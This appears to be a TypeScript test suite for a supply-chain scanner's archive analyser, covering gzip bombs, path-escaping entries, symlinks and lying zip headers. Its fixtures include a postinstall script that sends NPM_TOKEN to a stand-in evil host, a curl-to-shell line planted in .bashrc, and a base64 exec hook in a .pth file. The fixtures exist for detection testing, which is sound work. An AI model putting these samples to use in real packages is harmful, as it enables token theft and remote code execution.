import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { analyseArchive } from '../../../../src/scanners/supply-chain/content/analyse.js';
import { buildZip } from '../../../store/zip-writer.js';
import { buildTar, buildTarGz, npmTarball, type TarEntryInput } from './tar-writer.js';

const MANIFEST = { name: 'hostile', version: '1.0.0', scripts: { postinstall: 'node install.js' } };
const STEALER = "const https = require('https');\nhttps.get('https://x.evil.example/?t=' + process.env.NPM_TOKEN);\n";

describe('analyseArchive on hostile archives', () => {
  it('stops a gzip bomb at the limit', async () => {
    const archive = await npmTarball(MANIFEST, { 'install.js': STEALER, 'zeros.bin': Buffer.alloc(8 * 1024 * 1024) });
    assert.ok(archive.length < 64 * 1024, `bomb is ${archive.length} bytes`);
    const report = await analyseArchive(archive, 'npm-tarball', { maxUnpackedBytes: 1024 * 1024 });
    assert.deepEqual(report.warnings, ['npm tarball unpacks to more than 1 MB; only the first 1 MB were read']);
    assert.equal(report.issues[0]?.rule, 'exfiltration');
    assert.equal(report.issues[0]?.file, 'package/install.js');
  });

  it('stops after too many entries', async () => {
    const entries: TarEntryInput[] = [{ name: 'package/package.json', content: '{}' }];
    for (let i = 0; i < 100_000; i++) entries.push({ name: `package/f${i}.txt` });
    const archive = gzipSync(await buildTar(entries));
    const started = Date.now();
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(report.warnings, ['npm tarball has more than 50000 entries; only the first 50000 were read']);
    assert.ok(Date.now() - started < 30_000, `took ${Date.now() - started} ms`);
  });

  it('counts real bytes when zip headers lie', async () => {
    const wheel = buildZip([
      { name: 'hook.pth', content: "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n", declaredSize: 3 },
      { name: 'big.txt', content: Buffer.alloc(3 * 1024 * 1024, 0x41), declaredSize: 10 },
    ]);
    const report = await analyseArchive(wheel, 'wheel', { maxUnpackedBytes: 1024 * 1024 });
    assert.deepEqual(report.warnings, ['hook.pth: the zip header declares 1 KB but the data inflates to 1 KB', 'Python wheel unpacks to more than 1 MB; only the first 1 MB were read']);
    assert.deepEqual(report.issues.map((issue) => `${issue.severity} ${issue.rule} ${issue.file}`), ['critical eval-decoded hook.pth']);
  });

  it('rejects truncated gzip', async () => {
    const archive = await npmTarball(MANIFEST, { 'install.js': STEALER });
    await assert.rejects(analyseArchive(archive.subarray(0, archive.length - 20), 'npm-tarball'), { message: 'npm tarball is corrupt: unexpected end of file' });
  });

  it('rejects data that is no archive', async () => {
    await assert.rejects(analyseArchive(Buffer.from('<html>not found</html>'), 'wheel'), { message: 'Python wheel is corrupt: not a gzip, tar or zip archive (first bytes 3c68746d)' });
    await assert.rejects(analyseArchive(Buffer.alloc(0), 'sdist'), { message: 'Python sdist is corrupt: the file is empty' });
    await assert.rejects(analyseArchive(Buffer.from('BZh91AY&SY'), 'sdist'), { message: 'Python sdist is compressed with bzip2, which is not supported; only gzip tar and zip are read' });
    await assert.rejects(analyseArchive(Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]), 'wheel'), { message: 'Python wheel is corrupt: End of central directory record signature not found. Either not a zip file, or file is truncated.' });
  });

  it('reports escaping entry names', async () => {
    const archive = await buildTarGz([
      { name: 'package/package.json', content: '{}' },
      { name: 'package/../../.bashrc', content: 'curl http://evil.example | sh\n' },
      { name: '/etc/cron.d/x.sh', content: 'echo hi\n' },
    ]);
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(
      report.issues.map((issue) => `${issue.severity} ${issue.rule} ${issue.file} ${issue.message}`),
      [
        'medium unsafe-entry-path .bashrc archive entry escapes the package folder: stored as "package/../../.bashrc"',
        'medium unsafe-entry-path etc/cron.d/x.sh archive entry escapes the package folder: stored as "/etc/cron.d/x.sh"',
      ],
    );
  });

  it('never follows symlinks', async () => {
    const archive = await buildTarGz([
      { name: 'package/package.json', content: JSON.stringify(MANIFEST) },
      { name: 'package/install.js', type: 'symlink', linkname: '/etc/passwd' },
      { name: 'package/README', type: 'symlink', linkname: 'docs/README.md' },
    ]);
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(report.warnings, ['package/install.js: symlink to "/etc/passwd" not followed', 'package/README: symlink to "docs/README.md" not followed']);
    assert.deepEqual(report.issues.map((issue) => `${issue.rule} ${issue.file}`), ['unsafe-entry-path package/install.js', 'install-runs-file package/package.json']);
  });

  it('reads non-UTF-8 contents', async () => {
    const latin1 = Buffer.concat([Buffer.from('// caf\xe9 \xff\xfe\n', 'latin1'), Buffer.from(STEALER)]);
    const report = await analyseArchive(await npmTarball(MANIFEST, { 'install.js': latin1 }), 'npm-tarball');
    assert.equal(report.issues[0]?.rule, 'exfiltration');
    assert.equal(report.issues[0]?.line, 3);
  });

  it('skips a 50 MB line quickly', async () => {
    const line = Buffer.alloc(50 * 1024 * 1024, 0x61);
    const archive = await npmTarball(MANIFEST, { 'install.js': line });
    const report = await analyseArchive(archive, 'npm-tarball');
    assert.deepEqual(report.warnings, ['package/install.js: 50 MB, over the 2 MB limit for text analysis; only checked for executable headers']);
    const started = Date.now();
    const hostile = Buffer.from(`${'_0x1 \\x4 eval( fetch( "'.repeat(400_000)}`);
    const full = await analyseArchive(await npmTarball(MANIFEST, { 'install.js': hostile }), 'npm-tarball', { maxTextBytes: 64 * 1024 * 1024 });
    assert.deepEqual(full.warnings, []);
    assert.ok(Date.now() - started < 20_000, `took ${Date.now() - started} ms`);
  });

  it('rejects invalid limits', async () => {
    await assert.rejects(analyseArchive(Buffer.from('x'), 'wheel', { maxEntries: 0 }), { message: 'invalid archive limit maxEntries=0: expected a positive integer' });
  });
});
